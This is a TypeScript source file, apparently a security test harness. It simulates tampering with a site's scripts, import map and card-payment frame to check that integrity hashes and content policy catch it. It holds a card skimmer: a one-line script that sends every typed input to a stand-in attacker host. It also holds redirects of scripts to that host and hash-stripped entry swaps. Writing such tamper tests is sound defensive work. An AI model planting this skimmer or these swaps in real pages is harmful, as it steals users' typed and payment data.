import type { Dice } from '../shared/dice.ts'
import { PAYLOADS } from './payloads.ts'

/** An alteration in transit between our server and the browser. */
export interface Alteration {
  kind: string
  /** The exact change, to reproduce it. */
  what: string
  of: 'page' | 'frame' | 'script'
  /** URL path of a script. */
  path?: string
  /** The altered body, or a redirect instead of it. */
  apply: (body: Buffer<ArrayBuffer>) => Buffer<ArrayBuffer> | { redirectTo: string }
  /**
   * A policy of hashes allows a request for a script with our hash from any origin; a response with another hash must
   * not run.
   */
  asksElsewhere?: true
  /** The campaign submits the form afterwards. */
  submits?: true
  /** No policy forbids it: the page itself can only report it. */
  leadsAway?: true
}

/** The parts that can be altered. */
export interface Altered {
  dice: Dice
  evil: string
  entry: string
  /** Scripts of the page by path. */
  scripts: ReadonlyMap<string, Buffer>
}

type Kind = readonly [kind: string, make: (altered: Altered) => Omit<Alteration, 'kind'>]

const SKIMMER = (evil: string) =>
  `\n;window.__x=1;addEventListener('input',e=>fetch('${evil}/k?'+e.target.value));fetch('${evil}/k')`
const PAGE_PLACES = ['<head>', '</head>', '<body>', '<div id="root">', '</body>']
const FRAME_PLACES = ['<head>', '</head>', '<body>', '</body>']

const SCRIPT_KINDS: readonly Kind[] = [
  ['one byte of a script', (all) => ofScript(all, (body) => changeByte(body, all.dice))],
  [
    'a skimmer after a script',
    (all) =>
      ofScript(all, (body) => [Buffer.concat([body, Buffer.from(SKIMMER(all.evil))]), 'end']),
  ],
  [
    'a skimmer before a script',
    (all) =>
      ofScript(all, (body) => [
        Buffer.concat([Buffer.from(`${SKIMMER(all.evil)};`), body]),
        'start',
      ]),
  ],
  [
    'a script that is cut off',
    (all) =>
      ofScript(all, (body) => {
        const length = all.dice.below(body.length)
        return [body.subarray(0, length), `byte ${length}`]
      }),
  ],
  [
    'another script of ours in its place',
    (all) => {
      const path = all.dice.pick([...all.scripts.keys()])
      const other = all.dice.pick([...all.scripts.keys()].filter((key) => key !== path))
      const apply = () => Buffer.from(all.scripts.get(other) ?? '')
      return { of: 'script', path, what: `${path} is ${other}`, apply }
    },
  ],
  [
    'a script that is elsewhere',
    (all) => {
      const path = all.dice.pick([...all.scripts.keys()])
      const apply = () => ({ redirectTo: `${all.evil}/x.js` })
      return { of: 'script', path, what: path, apply, asksElsewhere: true }
    },
  ],
]

const IMPORT_MAP = /<script type="importmap">([^<]+)<\/script>/
const FIRST_SCRIPT = /<script>([^]*?)<\/script>/
const LAST_SCRIPT = /<script>((?:(?!<script)[^])*)<\/script>\s*<\/body>/
const LAST_SCRIPT_END = /<\/script>\s*<\/body>/

const PAGE_KINDS: readonly Kind[] = [
  ['one byte of the first script', ({ dice }) => ofInline('page', FIRST_SCRIPT, dice)],
  ['one byte of the import map', ({ dice }) => ofInline('page', IMPORT_MAP, dice)],
  ['no import map', () => replaced('page', IMPORT_MAP, '')],
  [
    'a first script that goes on',
    () => replaced('page', FIRST_SCRIPT, '<script>$1;window.__x=1</script>'),
  ],
  [
    'the entry of another site',
    ({ evil, entry }) => ({
      ...replaced('page', `src="${entry}"`, `src="${evil}/x.js"`),
      asksElsewhere: true,
    }),
  ],
  [
    'the entry of another site without its hash',
    ({ evil, entry }) =>
      replaced('page', / src="[^"]+" integrity="[^"]+"/, ` src="${evil}${entry}"`),
  ],
]

const FRAME_KINDS: readonly Kind[] = [
  ["one byte of the frame's script", ({ dice }) => ofInline('frame', LAST_SCRIPT, dice)],
  [
    "a skimmer in the frame's script",
    ({ evil }) => replaced('frame', LAST_SCRIPT_END, `${SKIMMER(evil)}$&`),
  ],
]

/** Every kind of alteration, in a fixed order. */
export const ALTERATION_KINDS: readonly Kind[] = [
  ...SCRIPT_KINDS,
  ...PAGE_KINDS,
  ...FRAME_KINDS,
  ...PAYLOADS.map(({ name, html, outsideOnly }): Kind => [
    `${name} in the page`,
    ({ dice, evil }) => {
      const inRoot = '<div id="root">'
      const places = PAGE_PLACES.filter((place) => !outsideOnly || place !== inRoot)
      return injected('page', dice.pick(places), html(evil))
    },
  ]),
  // A form in the frame is also refused by its sandbox, which no browser reports.
  ...PAYLOADS.filter(({ outsideOnly }) => !outsideOnly).map(({ name, html }): Kind => [
    `${name} in the card's frame`,
    ({ dice, evil }) => injected('frame', dice.pick(FRAME_PLACES), html(evil)),
  ]),
]

function ofScript(
  { dice, scripts }: Altered,
  change: (body: Buffer) => readonly [Buffer, string],
): Omit<Alteration, 'kind'> {
  const path = dice.pick([...scripts.keys()])
  const [body, where] = change(scripts.get(path) ?? Buffer.alloc(0))
  return { of: 'script', path, what: `${path}, ${where}`, apply: () => Buffer.from(body) }
}

function changeByte(body: Buffer, dice: Dice): readonly [Buffer, string] {
  const changed = Buffer.from(body)
  const at = dice.below(body.length)
  changed[at] = (body[at] ?? 0) ^ (1 << dice.below(7))
  return [changed, `byte ${at}`]
}

/** Changes one character inside the group of a pattern. */
function ofInline(of: 'page' | 'frame', pattern: RegExp, dice: Dice): Omit<Alteration, 'kind'> {
  const chance = dice.below(1_000_000) / 1_000_000
  return {
    of,
    what: `at ${chance}`,
    apply(body) {
      const text = body.toString()
      const [whole = '', script = ''] = pattern.exec(text) ?? []
      const start = text.indexOf(whole) + whole.indexOf(script)
      const at = start + Math.floor(chance * script.length)
      const letter = text[at] === 'x' ? 'y' : 'x'
      return Buffer.from(text.slice(0, at) + letter + text.slice(at + 1))
    },
  }
}

function replaced(
  of: 'page' | 'frame',
  found: string | RegExp,
  by: string,
): Omit<Alteration, 'kind'> {
  return {
    of,
    what: by.slice(0, 60),
    apply: (body) => Buffer.from(body.toString().replace(found, by)),
  }
}

function injected(of: 'page' | 'frame', place: string, html: string): Omit<Alteration, 'kind'> {
  const by = place.startsWith('</') ? html + place : place + html
  return {
    ...replaced(of, place, by),
    what: `${html} at ${place}`,
    ...(html.startsWith('<form') && { submits: true }),
    ...(html.startsWith('<meta') && of === 'page' && { leadsAway: true }),
  }
}
